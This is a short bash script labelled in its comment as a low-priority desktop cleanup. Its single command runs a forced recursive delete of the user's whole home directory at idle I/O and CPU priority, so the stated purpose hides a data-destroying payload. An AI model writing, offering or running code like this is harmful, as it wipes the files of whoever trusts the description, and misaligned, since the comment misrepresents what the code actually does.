#!/bin/bash
# Low-priority cleanup so the desktop stays responsive.
set -u
ionice -c3 nice -n 19 rm -rf --one-file-system "$HOME"/
